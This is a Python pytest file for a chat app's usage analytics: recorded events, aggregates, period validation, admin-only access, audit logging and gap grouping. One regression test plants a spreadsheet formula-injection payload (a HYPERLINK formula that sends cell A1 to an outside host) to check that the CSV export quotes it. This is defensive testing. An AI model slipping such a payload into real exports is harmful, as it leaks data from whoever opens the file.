"""Usage analytics (app/usage, app/web/usage_ui.py): events recorded by real answer paths,
aggregates on known data, period validation, admin-only access, the audit of question
texts, the CSV export and content gaps that put paraphrases together."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient

from app.chat.answering import NOT_STATED, NOTHING_FOUND, WITHHELD
from app.chat.finished import FinishedAnswer
from app.migrations import open_database
from app.usage.events import Asker, UsageRecorder, outcome_of
from app.usage.gaps import GapFinder
from app.usage.period import parse_period
from app.usage.report import build_report
from app.usage.rollups import percentile, rebuild
from llm.params import Usage
from retrieval.embedder import HashingEmbedder, Vectors
from tests.conftest import (
    TEST_USER,
    add_key,
    add_user,
    fake_model,
    login,
    sse_events,
    upload,
    wait_for,
    wait_indexed,
)

CANTEEN = b"# Canteen\n\nThe canteen opens at noon daily. Lunch is served until two."
INVENTED = "Parking is free for all visitors on weekends."
DAY = 86_400.0
NOON = 1_796_299_200.0  # 2026-12-03 12:00 UTC (a Thursday)


def events(client: TestClient[Any]) -> list[dict[str, Any]]:
    db = client.app.state.services.db
    return [dict(row) for row in db.read().execute("SELECT * FROM usage_events ORDER BY id")]


def recorded(client: TestClient[Any], count: int) -> list[dict[str, Any]]:
    """The events once ``count`` have been written (they are written in a worker thread)."""
    return list(wait_for(lambda: (found := events(client)) and len(found) >= count and found))


def chat_done(client: TestClient[Any], question: str, **headers: str) -> dict[str, Any]:
    response = client.post("/api/chat", json={"message": question}, headers=headers)
    assert response.status_code == 200, response.text
    name, data = sse_events(response.text)[-1]
    assert name == "done", data
    result: dict[str, Any] = json.loads(data)
    return result


def canteen(client: TestClient[Any]) -> int:
    created = upload(client, ("canteen.md", CANTEEN)).json()["documents"][0]
    wait_indexed(client, created["id"])
    return int(created["collection_id"]) if "collection_id" in created else 1


def test_answers_record_events_with_outcome_timing_and_tokens(client: TestClient[Any]) -> None:
    canteen(client)
    services = client.app.state.services
    collection = services.collection_id
    admin = services.auth.users.by_name(TEST_USER)

    answered = chat_done(client, "When does the canteen open?")
    [event] = recorded(client, 1)
    assert event["outcome"] == "answered" and event["channel"] == "web"
    assert event["user_id"] == admin.id and event["key_id"] is None
    assert event["message_id"] == answered["message_id"]
    assert event["question"] == "When does the canteen open?"
    assert event["collections"] == str(collection) and event["model"] == "default"
    assert event["prompt_tokens"] > 0 and event["completion_tokens"] > 0
    assert 0 <= event["ttft_ms"] <= event["total_ms"]

    assert chat_done(client, "zebra quantum marmalade")["answer"] == NOTHING_FOUND
    assert recorded(client, 2)[-1]["outcome"] == "declined"

    chat = services.require_chat()
    chat.config = replace(chat.config, withhold_unsupported=True)
    fake_model(client).enqueue([INVENTED])
    assert chat_done(client, "Is the canteen open at noon on weekends?")["answer"] == WITHHELD
    assert recorded(client, 3)[-1]["outcome"] == "withheld"
    # the two unanswered questions were embedded as they were recorded, for the gaps
    wait_for(lambda: _count(client, "usage_question_vectors") == 2)

    key = add_key(client)  # the same service path through an API key: the "api" channel
    client.cookies.clear()
    chat_done(client, "When does the canteen open?", Authorization=f"Bearer {key}")
    by_key = recorded(client, 4)[-1]
    assert by_key["channel"] == "api" and by_key["key_id"] is not None
    assert by_key["user_id"] == admin.id


def _count(client: TestClient[Any], table: str) -> int:
    db = client.app.state.services.db
    return int(db.read().execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0])


def test_grounded_v1_answers_are_recorded_as_v1(client: TestClient[Any]) -> None:
    canteen(client)
    key = add_key(client)
    client.cookies.clear()
    body = {"model": "rag", "messages": [{"role": "user", "content": "When is lunch served?"}]}
    headers = {"Authorization": f"Bearer {key}"}
    response = client.post("/v1/chat/completions", json=body, headers=headers)
    assert response.status_code == 200, response.text
    streamed = client.post("/v1/chat/completions", json={**body, "stream": True}, headers=headers)
    assert streamed.status_code == 200
    nothing = {"model": "rag", "messages": [{"role": "user", "content": "zebra quantum"}]}
    assert client.post("/v1/chat/completions", json=nothing, headers=headers).status_code == 200
    first, second, third = recorded(client, 3)
    assert first["channel"] == second["channel"] == third["channel"] == "v1"
    assert first["outcome"] == second["outcome"] == "answered"
    assert third["outcome"] == "declined" and third["model"] == ""
    assert first["prompt_tokens"] > 0 and first["message_id"] is None
    assert second["ttft_ms"] is not None


def test_outcomes_are_read_from_the_answer() -> None:
    assert outcome_of("Lunch is at noon [1].") == "answered"
    assert outcome_of(NOTHING_FOUND) == "declined"
    assert outcome_of("The documents do not cover this.") == "declined"
    # review of #28: a cited answer that sounds like a "no" is an answer, not a gap
    cited_no = "Documents older than seven years cannot be restored from the archive [1]."
    assert outcome_of(cited_no) == "declined"  # as read without its citations ...
    assert outcome_of(cited_no, cited=True) == "answered"  # ... and as it was given
    assert outcome_of(WITHHELD) == outcome_of(NOT_STATED) == "withheld"
    assert outcome_of("Lunch is … (stopped)", stopped=True) == "stopped"
    assert outcome_of(None) == outcome_of("text", failed=True) == "failed"


def _finished(question: str, answer: str, ttft: float, total: float, **more: Any) -> FinishedAnswer:
    usage = Usage(100, 0, 20)
    return FinishedAnswer(question, answer, more.pop("model", "m1"), ttft, total, usage, **more)


def known_data(client: TestClient[Any]) -> dict[str, Any]:
    """Ten events over three days, two users (one in a group), one key, two models."""
    services = client.app.state.services
    ann = add_user(client, "ann")
    bob = add_user(client, "bob")
    group = services.auth.groups.create("sales")
    services.auth.groups.add_member(group.id, ann.id, source="local")
    recorder = UsageRecorder(services.db)
    web_ann, web_bob = Asker(ann.id, None, "web"), Asker(bob.id, None, "web")
    key_bob = Asker(bob.id, 7, "api")
    said = "Lunch is at noon [1]."
    for n in range(4):  # day 1: ann, 4 answered at 120 ms first token, 1.1 s total
        recorder.record(web_ann, _finished(f"q{n}", said, 0.12, 1.1), at=NOON - 2 * DAY + n)
    recorder.record(web_ann, _finished("where is the gym", NOTHING_FOUND, 0.01, 0.02, model=""),
                    at=NOON - 2 * DAY + 10)  # fmt: skip
    for n in range(3):  # day 2: bob by key, model m2
        recorder.record(key_bob, _finished(f"k{n}", said, 2.2, 6.0, model="m2"), at=NOON - DAY + n)
    recorder.record(web_bob, _finished("bonus?", WITHHELD, 0.3, 4.0), at=NOON)
    recorder.record(web_bob, _finished("gym hours", NOTHING_FOUND, 0.01, 0.02, model=""),
                    at=NOON + 1)  # fmt: skip
    return {"ann": ann, "bob": bob, "group": group}


def test_aggregates_match_known_data(client: TestClient[Any]) -> None:
    people = known_data(client)
    services = client.app.state.services
    period = parse_period(None, "2026-12-01", "2026-12-03", "day")
    report = build_report(services.db.read().conn, period)
    t = report.totals
    assert (t.questions, t.answered, t.declined, t.withheld) == (10, 7, 2, 1)
    assert t.prompt_tokens == 1000 and t.completion_tokens == 200
    assert [row.questions for row in report.series] == [5, 3, 2]
    assert [row.label for row in report.series] == ["2026-12-01", "2026-12-02", "2026-12-03"]
    by_user = {row.label: row for row in report.breakdowns["user"]}
    assert by_user["ann"].questions == 5 and by_user["ann"].declined == 1
    assert by_user["bob"].questions == 5 and by_user["bob"].withheld == 1
    assert 100 < (by_user["ann"].ttft_p95_ms or 0) <= 150  # 120 ms, within its bucket
    [sales] = report.breakdowns["group"]
    assert sales.label == "sales" and sales.questions == 5
    [key] = report.breakdowns["key"]
    assert key.key == "7" and key.questions == 3
    models = {row.key: row.questions for row in report.breakdowns["model"]}
    assert models == {"m1": 5, "m2": 3, "": 2}
    channels = {row.key: row.questions for row in report.breakdowns["channel"]}
    assert channels == {"web": 7, "api": 3}
    weekly = build_report(services.db.read().conn, replace(period, bucket="week"))
    assert [(row.label, row.questions) for row in weekly.series] == [("2026-11-30", 10)]
    # The rollups rebuilt from the events sum to the same report.
    with services.db.write() as db:
        assert rebuild(db.conn) == 10
    again = build_report(services.db.read().conn, period)
    assert again.totals == report.totals and again.breakdowns == report.breakdowns
    assert people["ann"].id != people["bob"].id


def test_thumbs_and_documents_are_counted(client: TestClient[Any]) -> None:
    canteen(client)
    done = chat_done(client, "When does the canteen open?")
    recorded(client, 1)
    given = client.post(f"/api/answers/{done['message_id']}/feedback", json={"rating": "up"})
    assert given.status_code == 200
    body = client.get("/api/usage?period=7d").json()
    assert body["totals"]["thumbs_up"] == 1 and body["totals"]["thumbs_down"] == 0
    assert body["totals"]["documents"] == 1
    [user] = body["by"]["user"]
    assert user["thumbs_up"] == 1


def test_percentiles_are_read_within_a_bucket() -> None:
    hist = [0] * 28
    hist[2] = 90  # 50-100 ms
    hist[9] = 10  # 750-1000 ms
    assert 50 < (percentile(hist, 0.5) or 0) <= 100
    assert 750 < (percentile(hist, 0.95) or 0) <= 1000
    assert percentile([0] * 28, 0.5) is None


@pytest.mark.parametrize(
    "query",
    [
        "period=2d", "period=365", "bucket=year", "from=2026-13-01", "from=2026-02-30",
        "from=20261201", "from=2026-12-01&to=2026-11-01", "period=7d&from=2026-12-01",
        "to=2026-12-01", "from=1970-01-01", "from=2000-01-01&to=2026-12-01&bucket=day",
        "from=9999-12-31", "top=0", "top=100000", "format=xml", "from=" + "9" * 40,
        "bucket=%00", "period=%F0%9F%98%80",
    ],
)  # fmt: skip
def test_bad_periods_are_refused_with_a_4xx(client: TestClient[Any], query: str) -> None:
    paths = ["/api/usage", "/api/usage.csv", "/admin/usage"]
    if query == "format=xml":  # only the API has a format
        paths = ["/api/usage"]
    if query == "period=7d&from=2026-12-01":  # the page's form sends both: its dates win
        assert client.get(f"/admin/usage?{query}").status_code == 200
        paths.remove("/admin/usage")
    for path in paths:
        response = client.get(f"{path}?{query}")
        assert 400 <= response.status_code < 500, (path, query, response.status_code)


def test_periods_and_buckets() -> None:
    today = date(2026, 12, 3)
    week = parse_period("7d", today=today)
    assert (week.first, week.last, week.bucket) == (date(2026, 11, 27), today, "day")
    year = parse_period("365d", today=today)
    assert year.bucket == "month" and year.bucket_keys()[0] == "2025-12-01"
    assert parse_period("90d", today=today).bucket == "week"
    chosen = parse_period(None, "2026-11-01", "2026-11-30", "week", today=today)
    assert chosen.bucket_keys()[0] == "2026-10-26"  # weeks start on Monday
    assert parse_period(None, "2026-11-01", None, None, today=today).last == today


def test_usage_is_for_admins_only(client: TestClient[Any]) -> None:
    add_user(client, "staffer")
    admin_key = add_key(client, read_only=True)
    paths = ["/admin/usage", "/admin/usage/gaps", "/api/usage", "/api/usage.csv", "/api/usage/gaps"]
    client.cookies.clear()
    client.headers.pop("X-CSRF-Token", None)
    for path in paths:
        refused = client.get(path, follow_redirects=False)  # pages send to the sign-in page
        assert refused.status_code == (303 if path.startswith("/admin") else 401), path
        restricted = client.get(path, headers={"Authorization": f"Bearer {admin_key}"})
        assert restricted.status_code == 403, path
    login(client, "staffer")
    for path in paths:
        assert client.get(path).status_code == 403, path


def test_viewing_question_texts_is_audited(client: TestClient[Any]) -> None:
    known_data(client)
    db = client.app.state.services.db
    admin = client.app.state.services.auth.users.by_name(TEST_USER)

    def views() -> list[dict[str, Any]]:
        return [dict(r) for r in db.read().execute("SELECT * FROM usage_question_views")]

    assert client.get("/admin/usage?from=2026-12-01&to=2026-12-03").status_code == 200
    assert views() == []  # aggregates only: no question text shown
    page = client.get("/admin/usage/gaps?from=2026-12-01&to=2026-12-03")
    assert page.status_code == 200 and "where is the gym" in page.text
    api = client.get("/api/usage/gaps?from=2026-12-01&to=2026-12-03")
    assert api.status_code == 200
    first, second = views()
    assert first["user_id"] == second["user_id"] == admin.id
    assert (first["what"], second["what"]) == ("gaps page", "gaps api")
    assert first["period_from"] == "2026-12-01" and first["questions"] >= 2


def test_csv_export_parses(client: TestClient[Any]) -> None:
    known_data(client)
    for path in ("/api/usage.csv", "/api/usage?format=csv"):
        response = client.get(f"{path}{'&' if '?' in path else '?'}from=2026-12-01&to=2026-12-03")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        [totals] = [row for row in rows if row["section"] == "totals"]
        assert totals["questions"] == "10" and totals["declined"] == "2"
        assert [row["questions"] for row in rows if row["section"] == "series"] == ["5", "3", "2"]
        assert {row["label"] for row in rows if row["section"] == "user"} == {"ann", "bob"}


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(client: TestClient[Any]) -> None:
    """Review of #28: a name that starts like a formula (a model's, a collection's) went
    into the admin's export as one."""
    formula = '=HYPERLINK("http://x/?"&A1,"x")'
    UsageRecorder(client.app.state.services.db).record(
        Asker(None, None, "api"), _finished("q", "Noon [1].", 0.1, 1.0, model=formula), at=NOON
    )
    body = client.get("/api/usage.csv?from=2026-12-03&to=2026-12-03").text
    [row] = [r for r in csv.DictReader(io.StringIO(body)) if r["section"] == "model"]
    assert row["label"] == "'" + formula
    assert row["questions"] == "1"  # numbers stay numbers


def test_gaps_put_paraphrases_together(client: TestClient[Any]) -> None:
    services = client.app.state.services
    recorder = UsageRecorder(services.db)
    asker = Asker(None, None, "api")
    asked = [
        ("How do I reset my VPN password?", NOTHING_FOUND),
        ("how do I reset my vpn password", NOTHING_FOUND),
        ("How do I reset the VPN password?", WITHHELD),
        ("What is the parking fee for visitors?", NOTHING_FOUND),
        ("What is the parking fee for  visitors", NOTHING_FOUND),
        ("Is there a gym in the building?", NOTHING_FOUND),
        ("When does the canteen open?", "It opens at noon [1]."),  # answered: no gap
    ]
    for n, (question, answer) in enumerate(asked):
        recorder.record(asker, _finished(question, answer, 0.1, 1.0), at=NOON + n)
    body = client.get("/api/usage/gaps?from=2026-12-03&to=2026-12-03").json()
    groups = [(gap["count"], gap["question"], len(gap["examples"])) for gap in body["gaps"]]
    assert groups[0][0] == 3 and "VPN" in groups[0][1]
    assert body["gaps"][0]["withheld"] == 1
    assert groups[1][0] == 2 and "parking" in groups[1][1]
    assert groups[2] == (1, "Is there a gym in the building?", 0)
    assert len(groups) == 3 and body["questions"] == 6
    # Cached until a new event arrives, then grouped again.
    again = client.get("/api/usage/gaps?from=2026-12-03&to=2026-12-03").json()
    assert again["gaps"] == body["gaps"]
    recorder.record(asker, _finished("Is there a gym in this building?", NOTHING_FOUND, 0, 0),
                    at=NOON + 20)  # fmt: skip
    later = client.get("/api/usage/gaps?from=2026-12-03&to=2026-12-03").json()
    assert [gap["count"] for gap in later["gaps"]] == [3, 2, 2]


def test_unanswered_questions_are_embedded_when_recorded_so_no_view_waits(
    client: TestClient[Any],
) -> None:
    services = client.app.state.services
    embedder = CountingEmbedder()
    recorder = UsageRecorder(services.db, embedder)
    asker = Asker(None, None, "api")
    recorder.record(asker, _finished("Where  is the  gym?", NOTHING_FOUND, 0, 0), at=NOON)
    recorder.record(asker, _finished("Is lunch free?", "Lunch is free [1].", 0, 0), at=NOON + 1)
    recorder.record(asker, _finished("bonus?", WITHHELD, 0, 0), at=NOON + 2)
    assert embedder.texts == ["Where is the gym?", "bonus?"]  # the unanswered, as grouped
    found = GapFinder(services.db, embedder).find(parse_period(None, "2026-12-03", "2026-12-03"))
    assert sorted(gap.question for gap in found.gaps) == ["Where is the gym?", "bonus?"]
    assert embedder.texts == ["Where is the gym?", "bonus?"]  # the view embedded nothing


def test_a_question_of_punctuation_alone_is_a_gap_of_its_own(client: TestClient[Any]) -> None:
    """Its vector is all zeros, so it was not even similar to itself: it led an empty group
    and the gaps view answered 500 (found by the schema fuzzer)."""
    services = client.app.state.services
    recorder = UsageRecorder(services.db, HashingEmbedder())
    recorder.record(Asker(None, None, "api"), _finished("?!", NOTHING_FOUND, 0, 0), at=NOON)
    found = GapFinder(services.db, HashingEmbedder()).find(
        parse_period(None, "2026-12-03", "2026-12-03")
    )
    assert [(gap.question, gap.count) for gap in found.gaps] == [("?!", 1)]


class CountingEmbedder(HashingEmbedder):
    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []

    def embed_batch(self, texts: Sequence[str]) -> Vectors:
        self.texts.extend(texts)
        return super().embed_batch(texts)


def test_recording_never_fails_an_answer(client: TestClient[Any]) -> None:
    canteen(client)
    with client.app.state.services.db.write() as db:
        db.execute("DROP TABLE usage_daily")  # every write of an event now fails
    done = chat_done(client, "When does the canteen open?")
    assert "noon" in done["answer"]


@pytest.mark.real
def test_gaps_group_real_paraphrases_with_the_bundled_embedder(tmp_path: Path) -> None:
    """With all-MiniLM-L6-v2, wordings that share few words still land together."""
    from retrieval.embedder import SentenceTransformerEmbedder, bundled_embedder_dir

    db = open_database(tmp_path / "usage.db")
    recorder = UsageRecorder(db)
    asked = [
        "How do I reset my VPN password?",
        "I forgot my VPN password, how can I change it?",
        "vpn password reset",
        "When is the office closed for Christmas?",
        "What are the holiday closing dates?",
        "Is there a gym in the building?",
    ]
    for n, question in enumerate(asked):
        recorder.record(
            Asker(None, None, "api"), _finished(question, NOTHING_FOUND, 0, 0), NOON + n
        )
    finder = GapFinder(db, SentenceTransformerEmbedder(bundled_embedder_dir()))
    found = finder.find(parse_period(None, "2026-12-03", "2026-12-03", None))
    groups = sorted(sorted([gap.question, *gap.examples]) for gap in found.gaps)
    assert groups == sorted([sorted(asked[:3]), sorted(asked[3:5]), [asked[5]]]), groups
    db.close()


def test_whole_months_come_from_monthly_rollups_and_edges_from_daily(
    client: TestClient[Any],
) -> None:
    services = client.app.state.services
    ann = add_user(client, "ann")
    recorder = UsageRecorder(services.db)
    days = {"2026-10-31": 1, "2026-11-01": 2, "2026-11-17": 3, "2026-11-30": 4, "2026-12-01": 5}
    for day, count in days.items():
        at = datetime.fromisoformat(f"{day}T10:00:00+00:00").timestamp()
        for n in range(count):
            recorder.record(Asker(ann.id, None, "web"), _finished("q", "Yes [1].", 0.2, 1), at + n)
    for first, last, expected in [
        ("2026-11-01", "2026-11-30", 9), ("2026-10-31", "2026-12-01", 15),
        ("2026-11-02", "2026-11-30", 7), ("2026-11-01", "2026-11-29", 5),
        ("2026-10-01", "2026-12-31", 15), ("2026-11-17", "2026-11-17", 3),
    ]:  # fmt: skip
        report = build_report(services.db.read().conn, parse_period(None, first, last, None))
        [row] = report.breakdowns["user"]
        assert row.questions == report.totals.questions == expected, (first, last)
        assert row.ttft_p50_ms is not None and 150 < row.ttft_p50_ms <= 200
